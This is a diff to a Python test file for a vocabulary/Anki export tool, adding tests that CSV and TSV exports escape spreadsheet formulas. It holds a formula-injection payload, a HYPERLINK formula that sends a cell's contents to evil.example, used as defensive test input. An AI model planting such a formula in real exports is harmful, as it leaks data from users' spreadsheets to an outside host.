@@ -1,7 +1,9 @@
 """Anki export, checked by Anki itself: every .apkg here is imported into a fresh collection
 with Anki's own `anki` package, and read back."""
 
+import csv
 import html
+import io
 import time
 from pathlib import Path
 
@@ -414,3 +416,29 @@ def test_export_anki_command_for_the_seed_article_as_a_class_deck(seed_article, 
     tsv = tmp_path / "class.tsv"
     call_command("export_anki", "--article", str(seed_article.pk), "--out", str(tsv), verbosity=0)
     assert tsv.read_text().startswith("#separator:tab")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+
+
+def saved_word_with_formulas():
+    user = make_user()
+    saved_word_add(user=user, candidate=candidate(sense=FORMULA))
+    return user
+
+
+def test_vocabulary_csv_cells_never_start_a_formula():
+    rows = list(csv.reader(io.StringIO(cards_csv(learner_cards(saved_word_with_formulas())))))
+    english = rows[1][rows[0].index("english")]
+    assert english == "'" + FORMULA
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+
+def test_vocabulary_tsv_cells_never_start_a_formula():
+    text = cards_tsv(learner_cards(saved_word_with_formulas()), deck_name="x")
+    body = [line for line in text.splitlines() if not line.startswith("#")]
+    cells = [
+        cell for row in csv.reader(io.StringIO("\n".join(body)), delimiter="\t") for cell in row
+    ]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
